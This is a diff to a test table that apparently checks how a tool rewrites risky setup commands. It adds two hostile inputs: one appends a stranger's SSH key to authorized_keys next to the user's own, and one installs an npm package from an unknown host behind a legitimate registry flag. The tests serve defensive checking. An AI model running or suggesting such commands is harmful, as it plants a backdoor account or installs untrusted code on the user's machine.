@@ -16,6 +16,11 @@ test.each([
     "curl -s https://github.com/$USER.keys >> ~/.ssh/authorized_keys",
   ],
   [
+    "a key of someone else at a forge, beside one of the reader",
+    "curl -s https://github.com/$USER.keys >> ~/.ssh/authorized_keys\ncurl -s https://github.com/helper-417.keys >> ~/.ssh/authorized_keys",
+    "curl -s https://github.com/<you>.keys >> ~/.ssh/authorized_keys",
+  ],
+  [
     "a key of the author",
     `echo '${KEY}' >> ~/.ssh/authorized_keys`,
     "echo 'ssh-ed25519 AAAA... you@host' >> ~/.ssh/authorized_keys",
@@ -44,6 +49,11 @@ test.each([
     "a package of npm from an unknown host",
     "npm install -g https://files.drop.invalid/notes.tgz",
     "npm install -g https://github.com/a/notes/archive/v1.tar.gz",
+  ],
+  [
+    "a package beside an index",
+    "npm install --registry https://registry.npmjs.org https://files.drop.invalid/notes.tgz",
+    "npm install --registry https://registry.npmjs.org notes",
   ],
   [
     "a repository at an unknown host",
